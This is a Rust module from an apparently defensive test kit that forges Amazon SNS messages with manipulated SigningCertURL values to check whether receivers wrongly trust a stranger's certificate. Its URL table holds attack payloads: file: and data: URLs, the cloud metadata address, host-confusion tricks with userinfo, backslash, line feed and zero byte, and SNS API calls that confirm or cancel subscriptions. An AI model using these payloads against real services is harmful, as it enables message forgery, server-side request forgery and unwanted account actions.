//! `SigningCertURL` is not signed: whoever chooses it must not choose the certificate.
//!
//! Each message is signed with a stranger's key. Where its URL leads to the kit in any way, it is either called, which is
//! seen, or finds the stranger's certificate there, so that the message verifies.

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

use super::attack::{Attack, Needs};
use super::urls::fill;
use crate::attack::family::Family;
use crate::attack::forge::{Forge, ForgeError};
use crate::attack::plan::Plan;

pub(super) fn attacks() -> Vec<Attack> {
    let mut all: Vec<Attack> = URLS.iter().map(|(name, sentence, url)| at(name, sentence, url)).collect();
    all.extend(at_sns());
    all.extend(beside_the_url());
    all
}

/// [`fill`] says what stands in braces, besides the stranger's certificate: `{path}` is where it is, `{pem}` what it is.
const URLS: &[(&str, &str, &str)] = &[
    ("certificate-by-http", "SigningCertURL has SNS's host, without TLS.", "http://{host}:{port}{path}"),
    ("certificate-from-a-file", "SigningCertURL is a file.", "file:///etc/ssl/cert.pem"),
    (
        "certificate-in-the-url",
        "SigningCertURL is the certificate itself, as data.",
        "data:application/x-pem-file,{pem}",
    ),
    ("certificate-elsewhere", "SigningCertURL is a stranger's host.", "https://{elsewhere}{path}"),
    ("certificate-at-an-address", "SigningCertURL is an address.", "https://{trap}{path}"),
    (
        "certificate-at-an-address-by-http",
        "SigningCertURL is an address, without TLS.",
        "http://{trap}{path}",
    ),
    ("certificate-at-localhost", "SigningCertURL is localhost.", "https://localhost:{port}{path}"),
    (
        "certificate-at-a-decimal-address",
        "SigningCertURL is an address as one number.",
        "https://{decimal}:{port}{path}",
    ),
    (
        "certificate-at-a-mapped-address",
        "SigningCertURL is an IPv4 address as IPv6.",
        "https://{mapped}:{port}{path}",
    ),
    ("certificate-at-metadata", "SigningCertURL is the instance's metadata.", "http://169.254.169.254{path}"),
    ("host-as-prefix", "SigningCertURL's host begins with SNS's.", "https://{prefixed}{path}"),
    ("host-as-suffix", "SigningCertURL's host ends with SNS's, within a label.", "https://{suffixed}{path}"),
    ("host-below", "SigningCertURL's host stands below SNS's.", "https://{below}{path}"),
    (
        "host-of-a-bucket",
        "SigningCertURL is a bucket called sns, which a loose pattern takes for SNS (2022).",
        "https://{bucket}{path}",
    ),
    ("host-of-all-buckets", "SigningCertURL is anybody's bucket at S3.", "https://{buckets}{path}"),
    ("host-in-path", "SNS's host stands in the path of a stranger's.", "https://{trap}/{host}{path}"),
    (
        "host-in-query",
        "SNS's URL stands in the query of a stranger's.",
        "https://{trap}{path}?https://{host}{path}",
    ),
    (
        "host-in-fragment",
        "SNS's URL stands in the fragment of a stranger's.",
        "https://{trap}{path}#https://{host}{path}",
    ),
    ("host-as-user", "SNS's host stands as the user of a stranger's.", "https://{host}@{trap}{path}"),
    (
        "host-as-password",
        "SNS's host stands as user and port as password of a stranger's.",
        "https://{host}:443@{trap}{path}",
    ),
    (
        "host-after-backslash",
        "A backslash parts a stranger's host from SNS's.",
        "https://{trap}\\@{host}{path}",
    ),
    ("host-with-a-port", "SigningCertURL has SNS's host, and another port.", "https://{host}:{port}{path}"),
    (
        "host-cut-by-a-line-feed",
        "A line feed stands between SNS's host and more.",
        "https://{host}\n@{trap}{path}",
    ),
    (
        "host-cut-by-a-zero",
        "A zero byte stands between SNS's host and more.",
        "https://{host}\0@{trap}{path}",
    ),
    ("pem-in-query", "The path is a stranger's, the query ends with .pem.", "https://{trap}/any?x=.pem"),
    ("certificate-without-scheme", "SigningCertURL has no scheme.", "//{trap}{path}"),
    ("certificate-with-one-slash", "SigningCertURL has a slash too few.", "https:/{trap}{path}"),
    ("certificate-url-empty", "SigningCertURL is an empty string.", ""),
];

fn at(name: &'static str, sentence: &'static str, url: &'static str) -> Attack {
    attack(name, sentence, move |forge| {
        let certificate = forge.issue_strange()?;
        let pem = utf8_percent_encode(&certificate.pem, NON_ALPHANUMERIC).to_string();
        let url = fill(forge, url).replace("{path}", &certificate.path).replace("{pem}", &pem);
        // Under names of strangers the kit answers, too; on SNS's own host such a path is never asked for.
        Ok(forged(forge, &url)?.serving(certificate))
    })
    .needs(Needs::Nothing)
    .fetches(0)
}

/// URLs at SNS's own host that are not a certificate's: its API has answers, and effects, of its own.
fn at_sns() -> Vec<Attack> {
    vec![
        attack(
            "certificate-url-confirms",
            "SigningCertURL is the call that confirms a stranger's subscription.",
            |forge| {
                let (region, account) = (forge.topic().region().to_owned(), forge.other_account());
                let now = forge.now();
                let (topic, subscription) = forge.stranger(&region, account, "strange")?;
                let envelope = topic.subscription_confirmation(subscription, now);
                let token = crate::attack::forge::token(&envelope).to_owned();
                let arn = topic.arn().to_owned();
                let url = format!(
                    "https://{}/?Action=ConfirmSubscription&TopicArn={arn}&Token={token}&x=.pem",
                    forge.host()
                );
                forged(forge, &url)
            },
        ),
        attack(
            "certificate-url-unsubscribes",
            "SigningCertURL is the call that ends your subscription.",
            |forge| {
                let arn = forge.subscriptions().next().map(|own| own.arn().to_owned()).unwrap_or_default();
                let url =
                    format!("https://{}/?Action=Unsubscribe&SubscriptionArn={arn}&x=.pem", forge.host());
                forged(forge, &url)
            },
        ),
        attack("certificate-url-climbs", "SigningCertURL climbs out of its path.", |forge| {
            let url =
                format!("https://{}/SimpleNotificationService-/../?Action=ListTopics&x=.pem", forge.host());
            forged(forge, &url)
        }),
    ]
}

fn beside_the_url() -> Vec<Attack> {
    vec![
        attack("certificate-url-missing", "SigningCertURL is missing.", |forge| {
            let envelope = forge.notification();
            let signed = forge.sign_as_stranger("", envelope)?;
            Ok(Plan::post(forge.with_member(&signed, "SigningCertURL", None)))
        })
        .needs(Needs::Nothing),
        attack("certificate-url-endless", "SigningCertURL is 64 KiB long.", |forge| {
            let url =
                format!("https://{}/SimpleNotificationService-{}.pem", forge.host(), "a".repeat(64 * 1024));
            forged(forge, &url)
        })
        .needs(Needs::NothingButAws),
        attack(
            "lambdas-spelling",
            "SigningCertUrl, as Lambda spells it, leads to a stranger; the other one to SNS.",
            |forge| {
                let envelope = forge.notification();
                let signed = forge.sign_as_stranger(&forge.certificate_url(), envelope)?;
                let url = format!("https://{}{}", forge.trap(), forge.fresh_path());
                Ok(Plan::post(forge.with_member_after(&signed, "SigningCertUrl", &url)))
            },
        )
        .needs(Needs::NothingButAws),
    ]
}

fn attack(
    name: &'static str,
    sentence: &'static str,
    make: impl Fn(&mut Forge) -> Result<Plan, ForgeError> + Send + Sync + 'static,
) -> Attack {
    Attack::new(Family::CertificateUrl, name, sentence, make)
}

fn forged(forge: &mut Forge, url: &str) -> Result<Plan, ForgeError> {
    let envelope = forge.notification();
    let signed = forge.sign_as_stranger(url, envelope)?;
    Ok(Plan::post(forge.delivery(&signed)))
}
